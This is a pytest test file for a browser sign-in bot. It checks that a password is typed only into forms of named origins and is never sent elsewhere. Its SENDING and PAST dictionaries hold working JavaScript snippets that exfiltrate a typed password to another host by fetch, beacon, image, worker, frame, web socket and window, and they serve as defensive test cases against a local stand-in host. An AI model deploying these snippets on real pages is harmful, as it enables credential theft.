"""A password gets into documents of named origins, and out of them to named origins, alone."""

from __future__ import annotations

import threading
from base64 import b64encode
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any
from urllib.parse import unquote_plus

import pytest
from playwright.async_api import CDPSession

from ipp_bot.errors import IppBotError, PageBroken, SignInNeedsPerson, UsageError
from ipp_bot.pages import SignIn
from ipp_bot.profile.origins import Origins
from ipp_bot.site import Portal
from tests.support.variants import short

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from ipp_bot.browser import BrowserManager
    from ipp_bot.profile import Profile

SECRET = "not-for-others 7"

FORM = """<!doctype html><title>Sign in</title><h1>Sign in</h1>
<form method=post action="{action}">
<label>User name <input name=name></label><label>Password <input type=password name=secret></label>
<button>Sign in</button></form>
<script>{script}</script>"""
SIGNED_IN = "<!doctype html><h1>User Center</h1><dl><dt>Complainant<dd>Acme</dl>"
TELLS = """document.addEventListener('input', e =>
  fetch('/typed?' + encodeURIComponent(e.target.value)))"""


class Site:
    """One server under two names: the portal is 127.0.0.1, anybody else localhost."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.moved: dict[str, str] = {}
        self.leaked: list[str] = []
        """What came to the other name with the password in it."""
        self.tried = False
        """Whether a page's script has got to the point at which it sends something."""
        self.typed: list[str] = []
        """What any page told that was typed into it."""
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._answer("")

            def do_POST(self) -> None:
                self._answer(self.rfile.read(int(self.headers["content-length"] or 0)).decode())

            def _answer(self, body: str) -> None:
                host = self.headers["host"].partition(":")[0]
                told = unquote_plus(f"{self.path} {body}")
                secrets = (SECRET, b64encode(SECRET.encode()).decode())
                if host == "localhost" and any(secret in told for secret in secrets):
                    site.leaked.append(self.path)
                site.tried = site.tried or self.path == "/tried"
                if self.path.startswith("/typed"):
                    site.typed.append(told)
                path = self.path.partition("?")[0]
                if path == "/enter":
                    site.pages["/"] = SIGNED_IN
                if path in site.moved:
                    self.send_response(307)
                    self.send_header("location", site.moved[path])
                    self.send_header("content-length", "0")
                    self.end_headers()
                    return
                text = site.pages.get(path, SIGNED_IN).encode()
                self.send_response(200)
                self.send_header("content-type", "text/html; charset=utf-8")
                self.send_header("access-control-allow-origin", "*")
                self.send_header("content-length", str(len(text)))
                self.end_headers()
                self.wfile.write(text)

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        port = self.server.server_address[1]
        self.own, self.other = f"http://127.0.0.1:{port}", f"http://localhost:{port}"


@pytest.fixture
def site() -> Iterator[Site]:
    site = Site()
    yield site
    site.server.shutdown()
    site.server.server_close()


@pytest.fixture
def sign_in(
    run: Callable[..., Any], host: BrowserManager, profile: Profile, site: Site
) -> Callable[..., str]:
    """Signs in at the site; the complainant."""

    def call(
        origins: Origins | None = None,
        before: Callable[[Any], Any] | None = None,
        patience: float = 8,
    ) -> str:
        timings = profile.timings.model_copy(update={"navigation": patience})

        async def story() -> str:
            pool = await host.page_pool("credentials", None)
            async with pool.tab("credentials") as tab:
                known = profile.model_copy(update={"timings": timings})
                portal = Portal(known, site.own, origins)
                page = await SignIn.open(tab, portal)
                if before is not None:
                    await before(tab)
                try:
                    home = await page.sign_in("acme", SECRET)
                    return await home.complainant("")
                finally:
                    await tab.page.close()  # its scripts would go on in the next test

        return str(run(story))

    return call


def test_a_form_of_the_portal_itself_is_used(site: Site, sign_in: Callable[..., str]) -> None:
    site.pages["/"] = FORM.format(action="/enter", script="")
    site.pages["/enter"] = SIGNED_IN
    assert sign_in() == "Acme"


def test_a_page_that_comes_between_the_check_and_the_typing_gets_nothing(
    site: Site, sign_in: Callable[..., str], monkeypatch: pytest.MonkeyPatch
) -> None:
    site.pages["/"] = FORM.format(action="/enter", script="")
    site.pages["/alike"] = FORM.format(action="/enter", script=TELLS)
    tabs: list[Any] = []
    send = CDPSession.send
    checked: list[bool] = []

    async def moved(session: CDPSession, method: str, params: Any = None) -> Any:
        seen = await send(session, method, params)
        if params and params.get("expression") == "location.origin":
            checked.append(True)
            await tabs[0].page.goto(f"{site.other}/alike")
        return seen

    async def remember(tab: Any) -> None:
        tabs.append(tab)

    monkeypatch.setattr(CDPSession, "send", moved)
    with pytest.raises(IppBotError):
        sign_in(before=remember)
    assert checked
    assert site.leaked == []


def test_an_answer_that_moves_the_request_elsewhere_is_not_followed(
    site: Site, sign_in: Callable[..., str]
) -> None:
    site.pages["/"] = FORM.format(action="/enter", script="")
    site.moved["/enter"] = f"{site.other}/caught"
    with pytest.raises(UsageError, match=r"stopped.*did not get there") as caught:
        sign_in()
    assert site.leaked == []
    assert site.other in caught.value.message
    assert SECRET not in str(caught.value)


def test_an_answer_that_moves_it_within_the_portal_is_followed(
    site: Site, sign_in: Callable[..., str]
) -> None:
    site.pages["/"] = FORM.format(action="/enter", script="")
    site.moved["/enter"] = f"{site.own}/onward"
    assert sign_in() == "Acme"


def test_a_form_that_leads_elsewhere_is_not_filled_in(
    site: Site, sign_in: Callable[..., str]
) -> None:
    site.pages["/"] = FORM.format(action=f"{site.other}/caught", script=TELLS)
    with pytest.raises(UsageError, match="no password was typed") as caught:
        sign_in()
    assert site.other in caught.value.message
    assert site.leaked == []


SENDING = {
    "fetch by POST": "fetch(other, {method: 'POST', mode: 'no-cors', body: secret})",
    "fetch by GET": "fetch(bearing, {mode: 'no-cors'})",
    "fetch with a form": "const body = new FormData(); body.append('a', secret);"
    "fetch(other, {method: 'POST', mode: 'no-cors', body})",
    "fetch in base64": "fetch(other, {method: 'POST', mode: 'no-cors', body: btoa(secret)})",
    "fetch in a body of bytes": "fetch(other, {method: 'POST', mode: 'no-cors',"
    " body: new Blob([secret])})",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('POST', other); x.send(secret)",
    "a picture": "new Image().src = bearing",
    "a beacon": "navigator.sendBeacon(other, secret)",
    "a script": "document.head.append(Object.assign(document.createElement('script'),"
    " {src: bearing}))",
    "a style sheet": "document.head.append(Object.assign(document.createElement('link'),"
    " {rel: 'stylesheet', href: bearing}))",
    "a font": "document.fonts.add(new FontFace('a', `url(${bearing})`));"
    " document.fonts.load('1px a')",
    "server-sent events": "new EventSource(bearing)",
    "again and again": "setInterval(() => fetch(bearing, {mode: 'no-cors'}), 50)",
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'),"
    " {src: bearing}))",
    "a form in a frame": "document.body.insertAdjacentHTML('beforeend',"
    " `<iframe name=f></iframe><form id=g method=post target=f action=${other}><input name=a>"
    "</form>`); const g = document.getElementById('g'); g.a.value = secret; g.submit()",
    "going there": "location.href = bearing",
    "a worker": "const code = `fetch('${bearing}', {mode: 'no-cors'})`;"
    " new Worker(URL.createObjectURL(new Blob([code])))",
    "a frame of another origin": "const f = document.createElement('iframe');"
    " f.src = other.replace('caught', 'told');"
    " f.onload = () => f.contentWindow.postMessage(secret, '*'); document.body.append(f)",
}
"""Ways in which a page of the portal itself may send what was typed to somebody else."""
PAST = {
    "a prefetched page": "document.head.append(Object.assign(document.createElement('link'),"
    " {rel: 'prefetch', href: bearing}))",
    "a web socket": "new WebSocket(bearing.replace('http', 'ws'))",
    "a window": "window.open(bearing)",
    "a form in a window": "document.body.insertAdjacentHTML('beforeend',"
    " `<form id=g method=post target=_blank action=${other}><input name=a></form>`);"
    " const g = document.getElementById('g'); g.a.value = secret; g.submit()",
}
"""Ways that the browser lets nobody hold up: they are told."""
TOLD = """<!doctype html><script>onmessage = e =>
  fetch('/caught', {method: 'POST', body: e.data})</script>"""


@pytest.mark.parametrize("way", short(SENDING, 2))
def test_a_script_that_sends_it_elsewhere_is_stopped(
    site: Site, sign_in: Callable[..., str], way: str
) -> None:
    script = f"const other = '{site.other}/caught'; document.forms[0].onsubmit = () => {{"
    script += "fetch('/tried'); const secret = document.forms[0].secret.value,"
    script += f"bearing = other + '?' + encodeURIComponent(secret); {SENDING[way]}; return false }}"
    site.pages["/"] = FORM.format(action="/enter", script=script)
    site.pages["/told"] = TOLD
    with pytest.raises(IppBotError):
        sign_in(patience=3)
    assert site.tried
    assert site.leaked == []


@pytest.mark.parametrize(
    ("way", "returns"), short([(way, returns) for returns in ("true", "false") for way in PAST], 2)
)
def test_a_script_that_sends_it_past_the_fence_is_told(
    site: Site, sign_in: Callable[..., str], way: str, returns: str
) -> None:
    script = f"const other = '{site.other}/caught'; document.forms[0].onsubmit = () => {{"
    script += "fetch('/tried'); const secret = document.forms[0].secret.value,"
    script += f"bearing = other + '?' + encodeURIComponent(secret); {PAST[way]};"
    site.pages["/"] = FORM.format(action="/enter", script=f"{script} return {returns} }}")
    with pytest.raises(UsageError, match="has sent the password") as caught:
        sign_in(patience=3)
    assert site.other in caught.value.message
    assert "change the password" in str(caught.value.hint)
    assert SECRET not in str(caught.value)


NOT_TYPED = {
    "a form that leads elsewhere": FORM.format(action="{other}/caught", script=TELLS),
    "a button that leads elsewhere": FORM.format(action="/enter", script=TELLS).replace(
        "<button", "<button formaction={other}/caught"
    ),
    "a base elsewhere": "<base href={other}/>" + FORM.format(action="caught", script=TELLS),
    "a page that moves elsewhere": "<script>location.href = '{other}/form'</script>",
    "a page that is moved elsewhere": "<meta http-equiv=refresh content='0;url={other}/form'>",
    "a frame of another origin": "<!doctype html><h1>Welcome</h1><iframe src='{other}/form'>"
    "</iframe>",
    "a frame in a frame": "<!doctype html><h1>Welcome</h1>"
    "<iframe srcdoc=\"<iframe src='{other}/form'"
    ' width=400 height=300></iframe>" width=500 height=400></iframe>',
    "a frame of no origin": "<!doctype html><h1>Welcome</h1><iframe sandbox='allow-scripts'"
    " src='/form'></iframe>",
    "a document of a data address": '<!doctype html><h1>Welcome</h1><iframe src="data:text/html,'
    "<form action={other}/caught>Name<input name=name>Password<input type=password name=secret>"
    '<button>Sign in</button></form>"></iframe>',
}
"""Pages at which nothing is typed at all."""


@pytest.mark.parametrize("page", short(NOT_TYPED, 4))
def test_nothing_is_typed_where_the_origin_is_not_named(
    site: Site, sign_in: Callable[..., str], page: str
) -> None:
    site.pages["/"] = NOT_TYPED[page].replace("{other}", site.other)
    site.pages["/form"] = FORM.format(action=f"{site.other}/caught", script=TELLS)
    with pytest.raises(IppBotError):
        sign_in(patience=3)
    assert site.leaked == []
    assert site.typed == []


def test_a_frame_of_an_origin_that_nobody_named_gets_nothing(
    site: Site, sign_in: Callable[..., str]
) -> None:
    site.pages["/"] = f"<!doctype html><h1>Welcome</h1><iframe src='{site.other}/form'></iframe>"
    site.pages["/form"] = FORM.format(action="/enter", script=TELLS)
    with pytest.raises(UsageError, match="no password was typed") as caught:
        sign_in()
    assert f"frame of {site.other}" in caught.value.message
    assert site.leaked == []


def test_a_frame_of_a_named_origin_is_signed_in_at(site: Site, sign_in: Callable[..., str]) -> None:
    leads = f"{{ top.location = '{site.own}/enter'; return false }}"
    script = f"document.forms[0].onsubmit = () => {leads}"
    site.pages["/"] = f"<!doctype html><h1>Welcome</h1><iframe src='{site.other}/form'></iframe>"
    site.pages["/form"] = FORM.format(action="", script=script)
    origins = Origins(sign_in=(site.other,), pages=(site.own,))
    assert sign_in(origins) == "Acme"


def test_a_slider_that_comes_up_inside_the_frame_is_for_a_person(
    site: Site, sign_in: Callable[..., str]
) -> None:
    script = (
        "document.forms[0].onsubmit = () => { document.body.insertAdjacentHTML('beforeend', "
        "'<div id=nc_1_wrapper>Slide to verify</div>'); return false }"
    )
    site.pages["/"] = f"<!doctype html><h1>Welcome</h1><iframe src='{site.other}/form'></iframe>"
    site.pages["/form"] = FORM.format(action="", script=script)
    with pytest.raises(SignInNeedsPerson, match="slider"):
        sign_in(Origins(sign_in=(site.other,), pages=(site.own,)))


def test_another_way_to_sign_in_may_stand_in_front(site: Site, sign_in: Callable[..., str]) -> None:
    script = (
        "document.forms[0].onsubmit = () => { top.location = '%s/enter'; return false };"
        "document.forms[0].hidden = true; document.querySelector('a').onclick = () => "
        "{ document.forms[0].hidden = false; return false }"
    )
    site.pages["/"] = f"<!doctype html><h1>Welcome</h1><iframe src='{site.other}/form'></iframe>"
    form = FORM.format(action="", script=script % site.own)
    site.pages["/form"] = form.replace("<form", "<a href=#>密码登录</a><a href=#>扫码登录</a><form")
    assert sign_in(Origins(sign_in=(site.other,), pages=(site.own,))) == "Acme"


def test_a_page_that_is_nothing_known_is_told(site: Site, sign_in: Callable[..., str]) -> None:
    site.pages["/"] = "<!doctype html><h1>Closed today</h1>"
    with pytest.raises(PageBroken, match="Closed today"):
        sign_in()
